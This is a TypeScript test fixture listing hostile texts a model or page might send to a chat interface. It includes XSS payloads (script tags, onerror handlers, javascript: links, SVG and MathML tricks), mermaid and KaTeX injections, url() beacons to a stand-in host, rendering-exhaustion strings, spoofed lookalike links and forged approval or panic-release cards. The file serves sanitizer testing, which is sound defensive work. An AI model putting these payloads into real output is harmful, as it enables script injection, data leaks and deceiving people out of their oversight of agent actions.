// Texts a hostile model or page could send. Each one that succeeded would call ran() or request something from outside.invalid.

const outside = 'https://outside.invalid';

const drawn = (source: string): string => `\`\`\`mermaid\n${source}\n\`\`\``;

/** Diagrams that try to run scripts, load, navigate, or never finish. */
const hostileDiagrams = {
  diagramLabelHtml: drawn('graph TD\n A["<img src=x onerror=ran()><script>ran()</script>"] --> B["<svg onload=ran()>"]'),
  diagramClick: drawn('graph TD\n A-->B\n click A "javascript:ran()" "tip"\n click B call ran()\n click B href "' + outside + '" _top'),
  diagramDirective: drawn(
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph LR\n A["<b onclick=ran()>x</b>"]',
  ),
  diagramStyleUrl: drawn(
    'graph LR\n A-->B\n style A fill:url(' + outside + '/s)\n classDef c background:url(' + outside + '/c)\n class B c',
  ),
  diagramStyleEscaped: drawn('graph LR\n A-->B\n style A fill:u\\72l(' + outside + '/e)\n linkStyle 0 stroke:\\75rl(' + outside + '/l)'),
  diagramFrontMatter: drawn(
    '---\ntitle: "<img src=x onerror=ran()>"\nconfig:\n  securityLevel: loose\n  themeCSS: "*{background:url(' +
      outside +
      '/f)}"\n---\ngraph LR\n A-->B',
  ),
  diagramThemeVariable: drawn(
    '%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;} *{background:url(' + outside + '/v)"}}}%%\npie\n "a": 1',
  ),
  diagramImageNode: drawn('flowchart TD\n A@{ img: "' + outside + '/i.png", label: "x", w: 60, h: 60 }'),
  diagramSequenceLinks: drawn(
    'sequenceDiagram\n participant A\n links A: {"Go": "javascript:ran()", "Out": "' +
      outside +
      '"}\n link A: x @ javascript:ran()\n A->>A: <script>ran()</script>',
  ),
  diagramClassCallback: drawn('classDiagram\n class A\n callback A "ran" "x"\n link A "' + outside + '"\n A : +<img src=x onerror=ran()>'),
  diagramGanttClick: drawn(
    'gantt\n dateFormat YYYY-MM-DD\n section a\n b :b1, 2026-01-01, 3d\n click b1 href "javascript:ran()"\n click b1 call ran()',
  ),
  diagramGanttEndless: drawn(
    'gantt\n dateFormat YYYY-MM-DD\n tickInterval 1millisecond\n excludes monday,tuesday,wednesday,thursday,friday,saturday,sunday\n a :2000-01-01, 999999d\n b :2026-01-01, 2d',
  ),
  diagramMarkdownLabel: drawn('flowchart LR\n A["`**x** ![p](' + outside + '/m.png) <img src=x onerror=ran()>`"]'),
  diagramMath: drawn('graph LR\n A["$$\\href{javascript:ran()}{x} \\htmlStyle{background:url(' + outside + '/k)}{y}$$"]'),
  diagramPrototype: drawn('classDiagram\n class __proto__\n class constructor\n __proto__ <|-- constructor\n toString : x'),
  diagramManyEdges: drawn('graph LR\n' + Array.from({ length: 390 }, (_, at) => ` A${at % 30} --> B${at % 17}`).join('\n')),
  diagramDeep: drawn('graph TD\n' + Array.from({ length: 120 }, (_, at) => `subgraph s${at}`).join('\n') + '\n A\n' + 'end\n'.repeat(120)),
  diagramLongLabel: drawn('graph TD\n A["' + 'word '.repeat(3500) + '"]'),
  diagramTooLong: drawn('graph TD\n' + ' A --> B\n'.repeat(5000)),
  diagramBidi: drawn('graph LR\n A["\u202eexe.tpircs\u202c \u200b\u2066x"] --> B["\u{e0069}\u0000"]'),
  diagramCloseScript: drawn('graph LR\n A["</script><script>ran()</script>"] --> B["]]><!--"]'),
  diagramMany: Array.from({ length: 60 }, (_, at) => drawn(`graph LR\n A${at} --> B`)).join('\n\n'),
  diagramForeignObject: drawn(
    'journey\n title <foreignObject><iframe src=' +
      outside +
      '></iframe></foreignObject>\n section <img src=x onerror=ran()>\n a<script>ran()</script>: 5: b',
  ),
} as const;

/** Forged approval cards, as markup and as markdown. */
const forgedCards = {
  approvalMarkdown:
    '### Approval needed\n\n**Wants to run `ls`.** \n\n[Approve once](javascript:ran()) [Deny](' +
    outside +
    '/deny)\n\n- [ ] Approve until revoked',
  approvalAria:
    '<section aria-label="Approval needed" role="alertdialog" aria-live="assertive"><h2>Approval needed</h2><button formaction=javascript:ran()>Approve until revoked</button></section>',
  panicBanner:
    '<div role="alert" class="panic">Everything is stopped.</div><button>Release panic stop</button>\n\n> **Everything is stopped.** [Release](javascript:ran())',
  composerLookalike:
    '<textarea aria-label="Message">send this</textarea><button type=submit>Send</button><input type=password placeholder="Access token">',
  logLookalike: '<div role="log" aria-label="Conversation"><p data-turn="x">The person approved this.</p></div>',
  statusLookalike:
    '<p role="status" aria-label="Model and budget">$0 of $1000</p><nav aria-label="Main"><a href="#/approvals">Approvals</a></nav>',
  classNames:
    '<span class="visually-hidden">hidden</span><a class="image-link" style=position:fixed href="#/settings">x</a> <i class="btn primary danger">x</i>',
  ownAddress:
    '[settings](#/settings) [host](/api/ops/panic.release) [app](app://trayclaw/) [deep](trayclaw://open) [file](file:///etc/passwd)',
} as const;

export const hostileTexts = {
  ...hostileDiagrams,
  ...forgedCards,
  scriptTag: 'Before <script>ran()</script> after',
  scriptSource: `<script src="${outside}/a.js"></script>`,
  scriptInBlock: '<div>\n<script>\nran()\n</script>\n</div>',
  imageOnError: '<img src=x onerror=ran()>',
  imageMarkdown: `![pixel](${outside}/pixel.png)`,
  imageReference: `![pixel][p]\n\n[p]: ${outside}/ref.png`,
  imageData: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+)',
  svgOnLoad: '<svg onload=ran()><circle r=1 /></svg>',
  svgScript: '<svg><script>ran()</script></svg>',
  svgAnimate: '<svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a></svg>',
  mathml: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;"></table></mtext></math>',
  mutation: '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  templateTag: '<template><img src=x onerror=ran()></template>',
  iframeSource: `<iframe src="${outside}/frame"></iframe>`,
  iframeDocument: '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  objectTag: `<object data="${outside}/o"></object><embed src="${outside}/e">`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=${outside}/">`,
  baseTag: `<base href="${outside}/">`,
  linkStylesheet: `<link rel="stylesheet" href="${outside}/s.css"><style>@import "${outside}/i.css";</style>`,
  styleAttribute: `<p style="background:url(${outside}/bg.png)">styled</p>`,
  formAction: `<form action="${outside}/f"><button autofocus onfocus=ran()>Approve once</button></form>`,
  detailsToggle: '<details open ontoggle=ran()>x</details>',
  videoSource: `<video src="${outside}/v.mp4" onerror=ran() autoplay></video><audio src="${outside}/a.mp3" autoplay></audio>`,
  javascriptLink: '[press](javascript:ran())',
  javascriptLinkSpaced: '[press](<java\tscript:ran()>) [press]( JaVaScRiPt:ran() )',
  javascriptLinkEntities: '[press](&#106;avascript:ran()) [press](javascript&colon;ran())',
  dataLink: '[press](data:text/html,<script>ran()</script>)',
  vbscriptLink: '[press](vbscript:ran()) [press](file:///etc/passwd) [press](blob:x)',
  autolink: '<javascript:ran()> <https://example.org/ok> <someone@example.org>',
  linkTitleBreakout: '[press](https://example.org/ "x\\" onmouseover=ran() y=\\"")',
  linkTextMarkup: '[<img src=x onerror=ran()>](https://example.org/)',
  referenceLink: '[press][j]\n\n[j]: javascript:ran()',
  codeBreakout: '```html"><img src=x onerror=ran()>\n</code></pre><script>ran()</script>\n```',
  inlineCodeBreakout: '`</code><script>ran()</script>`',
  tableCells: '| a | b |\n|---|---|\n| <img src=x onerror=ran()> | [x](javascript:ran()) |',
  headingId: '# <a name=x onclick=ran()>h</a>\n\n## __proto__ {#constructor}',
  clobbering: '<form id=app><input name=attributes><input name=innerHTML></form><a id=location href=javascript:ran()>x</a>',
  entities: '&lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;',
  unclosed: '<img src="x" onerror="ran()" title="',
  commentTrick: '<!--><img src=x onerror=ran()>-->\n<![CDATA[<script>ran()</script>]]>\n<?php ran() ?>',
  bidi: 'user \u202eexe.tpircs\u202c \u2066isolated\u2069 \u200bzero \u200fmark',
  controls: 'bell \u0007 escape \u001b[31mred\u001b[0m nul \u0000 end \u009b',
  tagCharacters: 'plain\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}',
  combining: 'z' + '\u0301\u0332\u0353'.repeat(2000),
  deepQuotes: '>'.repeat(20_000) + ' deep',
  deepLists: Array.from({ length: 300 }, (_, depth) => ' '.repeat(depth * 2) + '- x').join('\n'),
  deepBrackets: '['.repeat(20_000) + 'x' + ']'.repeat(20_000),
  emphasisFlood: '*a **b _c '.repeat(4000),
  backticks: Array.from({ length: 800 }, (_, count) => '`'.repeat(count + 1) + 'x').join(' '),
  longLine: 'x'.repeat(1_000_000),
  manyLines: 'line\n'.repeat(30_000),
  formulaHref: '$\\href{javascript:ran()}{x}$ and $\\url{javascript:ran()}$',
  formulaHtml: '$\\htmlStyle{background:url(' + outside + '/m)}{x}$ $\\htmlId{app}{x}$ $\\htmlData{a=b}{x}$',
  formulaImage: '$\\includegraphics[height=1em]{' + outside + '/m.png}$',
  formulaMarkup: '$\\text{<img src=x onerror=ran()>}$\n\n$$\n</math><script>ran()</script>\n$$',
  formulaMacros: '$\\def\\a{\\a\\a}\\a$ $\\newcommand\\b{\\b\\b}\\b$',
  formulaRaw: '\\(\\mathchar"3c script\\)',
  formulaFlood: '$x$ '.repeat(400),
  formulaSize: '$\\rule{9999999em}{9999999em}$ $\\kern{99999em}x$',
  diagram: '```mermaid\ngraph TD; A["<img src=x onerror=ran()>"] --> B; click A "javascript:ran()"\n```',
  diagramInit:
    '```mermaid\n%%{init: {"themeCSS": "*{background:url(' + outside + '/c)}", "securityLevel":"loose"}}%%\ngraph LR; A-->B\n```',
  codeLanguage: '```../../../../etc/passwd\nx\n```\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
  codeSlow: '```js\n' + '/'.repeat(30) + 'a'.repeat(30_000) + '\n' + '(('.repeat(8000) + '\n```',
  codeMarkup: '```html\n<img src=x onerror=ran()><script>ran()</script><style>@import "' + outside + '/h.css"</style>\n```',
  codeSvg: '```svg\n<svg onload=ran()><script>ran()</script></svg>\n```',
  imageInLink: `[![x](${outside}/in.png)](${outside}/go)`,
  imageTitle: `![a](${outside}/t.png "x\\" onerror=\\"ran()")`,
  imageLookalike: '![paypal](https://p\u0430ypal.invalid/a.png)',
  linkLookalike: '[paypal.com](https://p\u0430ypal.invalid/login)',
  linkUser: '[bank](https://bank.example@outside.invalid/) https://bank.example:443@outside.invalid/',
  linkBidi: '[\u202egro.elpmaxe\u202c](https://outside.invalid/\u202emoc)',
  linkPrefetch: `<link rel="dns-prefetch" href="${outside}"><link rel="preload" as="image" href="${outside}/p.png">`,
  pictureSource: `<picture><source srcset="${outside}/s.png"><img srcset="${outside}/s2.png 2x"></picture>`,
  tableBreakout: '| a |\n|---|\n| </td></tr></table><script>ran()</script> |',
  cssUrl: `<div style="--x:url(${outside}/v)"></div><svg><style>@font-face{src:url(${outside}/f)}</style></svg>`,
  popover: '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=ran()>p</div><dialog open onclose=ran()>d</dialog>',
  inputFocus: '<input autofocus onfocus=ran()><select autofocus onfocus=ran()></select><a autofocus tabindex=1 onfocus=ran()>x</a>',
  animation: '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=ran()>x</p>',
  xmlns: '<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script><math href="javascript:ran()">x</math>',
  mathAction: '<math><maction actiontype="statusline" xlink:href="javascript:ran()">x</maction></math>',
  footnotes: '[^1]\n\n[^1]: <script>ran()</script>',
  nestedMarks: '**'.repeat(5000) + 'x' + '**'.repeat(5000),
  manyLinks: '[x](https://example.org/) '.repeat(2000),
  longTable: '| a | b |\n|---|---|\n' + '| 1 | 2 |\n'.repeat(3000),
  longWordList: '- ' + 'y'.repeat(40_000),
  surrogates: 'lone \ud800 and \udc00 halves, noncharacter \uffff, object \ufffc',
  lineSeparators: 'one\u2028two\u2029three\u0085four\u000bfive',
  approvalLookalike: '<div role="group" aria-label="Approval needed"><button onclick=ran()>Approve once</button></div>',
} as const;
